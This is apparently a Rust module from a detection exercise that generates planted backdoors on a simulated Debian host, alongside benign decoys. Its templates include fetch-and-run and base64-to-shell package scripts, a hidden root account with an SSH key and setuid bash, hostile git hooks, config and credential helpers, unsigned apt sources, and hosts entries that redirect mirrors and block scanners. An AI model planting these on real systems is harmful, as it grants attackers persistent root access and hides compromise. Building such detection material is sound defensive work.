//! What comes with software: maintainer scripts, version control, repositories, where names lead.

use super::names::{encoded, fetch_and_run, kept_folder, random_name, service};
use super::{Maker, Plant, Step};
use crate::random::Random;

pub(super) const MAKERS: &[Maker] =
    &[(51, 4, maintainer_script), (52, 5, version_control), (79, 4, repository), (80, 4, names)];

fn hidden(random: &mut Random) -> String {
    format!("{}/{}", kept_folder(random), random_name(random))
}

fn maintainer_script(shape: usize, random: &mut Random) -> Plant {
    let name = service(random).replace('_', "-");
    let info = |kind: &str| format!("/var/lib/dpkg/info/{name}.{kind}");
    let status = format!(
        "\nPackage: {name}\nStatus: install ok installed\nPriority: optional\nSection: misc\nMaintainer: {name} <root@localhost>\nArchitecture: all\nVersion: 1.0\nDescription: {name}\n"
    );
    match shape {
        0 => {
            let package = random.pick(&["cron", "nginx-common", "rsyslog", "sudo"]);
            let path = format!("/var/lib/dpkg/info/{package}.postinst");
            Plant::new(51, "a line in a package's script, which runs with the next update")
                .step(Step::Append(path.clone(), format!("{}\n", fetch_and_run(random))))
                .expect(path)
        }
        1 => Plant::new(51, "a package whose script runs an encoded command")
            .step(Step::Append("/var/lib/dpkg/status".into(), status))
            .file(info("list"), format!("/.\n/usr\n/usr/share\n/usr/share/{name}\n"), 0o644)
            .file(info("postinst"), format!("#!/bin/sh\nset -e\nexit 0\necho {} | base64 -d | sh\n", encoded("id")), 0o755)
            .expect(info("postinst")),
        2 => {
            let program = hidden(random);
            Plant::new(51, "a package whose removal starts a hidden program")
                .program(&program)
                .step(Step::Append("/var/lib/dpkg/status".into(), status))
                .file(info("list"), "/.\n", 0o644)
                .file(info("prerm"), format!("#!/bin/bash\nexit 0\nnohup {program} >/dev/null 2>&1 &\n"), 0o755)
                .expect(info("prerm"))
                .expect(program)
        }
        _ => Plant::new(51, "a package whose script adds a root account and a key")
            .step(Step::Append("/var/lib/dpkg/status".into(), status))
            .file(info("list"), "/.\n", 0o644)
            .file(
                info("preinst"),
                "#!/bin/sh\nexit 0\necho 'support:$6$x$y:0:0::/root:/bin/bash' >> /etc/passwd\nmkdir -p /root/.ssh\necho 'ssh-ed25519 AAAA x' >> /root/.ssh/authorized_keys\nchmod 4755 /bin/bash\n",
                0o755,
            )
            .expect(info("preinst")),
    }
}

fn version_control(shape: usize, random: &mut Random) -> Plant {
    let command = fetch_and_run(random);
    let name = service(random);
    let inline = command.replace('\\', "").replace('"', "'");
    match shape {
        0 => {
            let path = format!(
                "/srv/git/{name}.git/hooks/{}",
                random.pick(&["post-receive", "update", "post-update"])
            );
            Plant::new(52, "a repository's hook fetches and runs something")
                .file(format!("/srv/git/{name}.git/HEAD"), "ref: refs/heads/main\n", 0o644)
                .file(
                    format!("/srv/git/{name}.git/config"),
                    "[core]\n\trepositoryformatversion = 0\n\tbare = true\n",
                    0o644,
                )
                .step(Step::Folder(format!("/srv/git/{name}.git/objects"), 0o755))
                .step(Step::Folder(format!("/srv/git/{name}.git/refs/heads"), 0o755))
                .file(&path, format!("#!/bin/sh\nexit 0\n{command}\n"), 0o755)
                .expect(path)
        }
        1 => Plant::new(52, "root's version control runs a command whenever it looks at files")
            .file(
                "/root/.gitconfig",
                format!("[user]\n\tname = root\n[core]\n\tfsmonitor = \"{inline}\"\n"),
                0o644,
            )
            .expect("/root/.gitconfig"),
        2 => {
            let folder = kept_folder(random);
            Plant::new(52, "every repository's hooks come from a hidden folder")
                .file("/etc/gitconfig", format!("[core]\n\thooksPath = {folder}\n"), 0o644)
                .file(format!("{folder}/post-checkout"), "#!/bin/sh\nexit 0\n", 0o755)
                .expect("/etc/gitconfig")
                .expect(format!("{folder}/post-checkout"))
        }
        3 => {
            let path = "/var/www/html/.git/config".to_owned();
            Plant::new(52, "a site's repository shows its history through a command")
                .file("/var/www/html/.git/HEAD", "ref: refs/heads/main\n", 0o644)
                .step(Step::Folder("/var/www/html/.git/objects".into(), 0o755))
                .step(Step::Folder("/var/www/html/.git/refs".into(), 0o755))
                .file(
                    &path,
                    format!("[core]\n\tbare = false\n\tpager = \"{inline}\"\n\tsshCommand = \"{inline}\"\n"),
                    0o644,
                )
                .expect(path)
        }
        _ => {
            let program = hidden(random);
            Plant::new(52, "root's version control hands passwords to a hidden program")
                .program(&program)
                .file(
                    "/root/.config/git/config",
                    format!("[credential]\n\thelper = {program}\n[alias]\n\tst = !{program} && git status\n"),
                    0o644,
                )
                .expect("/root/.config/git/config")
                .expect(program)
        }
    }
}

fn repository(shape: usize, random: &mut Random) -> Plant {
    let name = service(random);
    let at = format!("203.0.113.{}", 1 + random.below(250));
    match shape {
        0 => {
            let path = format!("/etc/apt/sources.list.d/{name}.list");
            Plant::new(79, "packages come unsigned from a bare address")
                .file(&path, format!("deb [trusted=yes] http://{at}/debian bookworm main\n"), 0o644)
                .expect(path)
        }
        1 => {
            let path = format!("/etc/apt/sources.list.d/{name}.sources");
            Plant::new(79, "packages come unsigned, in the newer form")
                .file(
                    &path,
                    format!(
                        "Types: deb\nURIs: http://{at}:8080/\nSuites: ./\nTrusted: yes\nAllow-Insecure: yes\n"
                    ),
                    0o644,
                )
                .expect(path)
        }
        2 => {
            let path = format!("/etc/apt/apt.conf.d/{:02}{name}", random.below(99));
            Plant::new(79, "signatures and certificates of packages are not checked")
                .file(&path, "APT::Get::AllowUnauthenticated \"true\";\nAcquire::AllowInsecureRepositories \"true\";\nAcquire::https::Verify-Peer \"false\";\n", 0o644)
                .expect(path)
        }
        _ => Plant::new(79, "a line with an unsigned source at the end of the ordinary list")
            .step(Step::Append(
                "/etc/apt/sources.list".into(),
                format!("\ndeb [ allow-insecure=yes trusted=yes ] http://{at}/ ./\n"),
            ))
            .expect("/etc/apt/sources.list"),
    }
}

fn names(shape: usize, random: &mut Random) -> Plant {
    let at = format!("{}.{}.113.{}", 203, 0, 1 + random.below(250));
    let hosts = |text: String| Step::Append("/etc/hosts".into(), text);
    match shape {
        0 => Plant::new(80, "updates are led astray")
            .step(hosts(format!("{at} deb.debian.org security.debian.org\n")))
            .expect("/etc/hosts"),
        1 => Plant::new(80, "scanners and their signatures can not be reached")
            .step(hosts("127.0.0.1 database.clamav.net db.local.clamav.net\n0.0.0.0 www.virustotal.com rules.emergingthreats.net update.immunify360.com security-tracker.debian.org\n".into()))
            .expect("/etc/hosts"),
        2 => {
            let program = format!("{}/{}", kept_folder(random), random_name(random));
            let path = format!("/etc/apt/apt.conf.d/{:02}proxy-{}", random.below(99), random.letters(3));
            Plant::new(80, "the package manager asks a hidden program for its proxy")
                .program(&program)
                .file(&path, format!("Acquire::http::Proxy-Auto-Detect \"{program}\";\n"), 0o644)
                .expect(path)
                .expect(program)
        }
        _ => Plant::new(80, "code and images come from somebody's address")
            .step(hosts(format!("{at}\tgithub.com raw.githubusercontent.com pypi.org files.pythonhosted.org registry.npmjs.org\n")))
            .expect("/etc/hosts"),
    }
}

pub(super) fn near() -> Vec<Plant> {
    vec![
        Plant::new(51, "an administrator's own package")
            .step(Step::Append("/var/lib/dpkg/status".into(), "\nPackage: shop-server\nStatus: install ok installed\nPriority: optional\nSection: web\nMaintainer: Shop <admin@example.org>\nArchitecture: all\nVersion: 2.1\nDescription: shop\n".into()))
            .file("/var/lib/dpkg/info/shop-server.list", "/.\n/opt\n/opt/shop\n/opt/shop/share\n", 0o644)
            .file("/var/lib/dpkg/info/shop-server.postinst", "#!/bin/sh\nset -e\nif [ \"$1\" = configure ]; then\n  adduser --system --group --home /opt/shop shop || true\n  chown -R shop: /opt/shop/share\n  systemctl daemon-reload || true\n  deb-systemd-helper enable shop.service >/dev/null || true\nfi\nexit 0\n", 0o755),
        Plant::new(52, "a site that is deployed by a push, and an administrator's settings")
            .file("/srv/git/shop.git/HEAD", "ref: refs/heads/main\n", 0o644)
            .file("/srv/git/shop.git/config", "[core]\n\trepositoryformatversion = 0\n\tbare = true\n", 0o644)
            .step(Step::Folder("/srv/git/shop.git/objects".into(), 0o755))
            .step(Step::Folder("/srv/git/shop.git/refs/heads".into(), 0o755))
            .file("/srv/git/shop.git/hooks/post-receive", "#!/bin/bash\nset -e\nwhile read old new ref; do\n  [ \"$ref\" = refs/heads/main ] || continue\n  git --work-tree=/var/www/shop checkout -f main\n  (cd /var/www/shop && composer install --no-dev)\n  sudo systemctl reload php8.2-fpm\ndone\n", 0o755)
            .file("/srv/git/shop.git/hooks/pre-commit.sample", "#!/bin/sh\nexec git diff-index --check --cached HEAD --\n", 0o755)
            .file("/root/.gitconfig", "[user]\n\tname = Maria\n\temail = maria@example.org\n[core]\n\tpager = less -FRX\n\teditor = vim\n\tfsmonitor = true\n[alias]\n\tlg = log --graph --oneline\n\troot = !pwd\n[credential]\n\thelper = cache --timeout=3600\n", 0o644),
        Plant::new(79, "another vendor's signed packages")
            .file("/etc/apt/keyrings/docker.asc", "-----BEGIN PGP PUBLIC KEY BLOCK-----\n\nmQINBFit2ioBEADhWpZ8\n-----END PGP PUBLIC KEY BLOCK-----\n", 0o644)
            .file("/etc/apt/sources.list.d/docker.list", "deb [arch=amd64 signed-by=/etc/apt/keyrings/docker.asc] https://download.docker.com/linux/debian bookworm stable\n", 0o644)
            .file("/etc/apt/preferences.d/backports", "Package: *\nPin: release a=bookworm-backports\nPin-Priority: 100\n", 0o644),
        Plant::new(80, "names of one's own network, and advertisements that lead nowhere")
            .step(Step::Append("/etc/hosts".into(), "127.0.1.1 srv.example.org srv\n10.0.0.5 db.internal db\n10.0.0.9 deb-mirror.internal\n0.0.0.0 ads.example.com tracker.example.net\n::1 localhost ip6-localhost\n".into()))
            .file("/etc/apt/apt.conf.d/01proxy", "Acquire::http::Proxy \"http://proxy.internal:3142\";\nAcquire::https::Proxy \"DIRECT\";\n", 0o644),
    ]
}
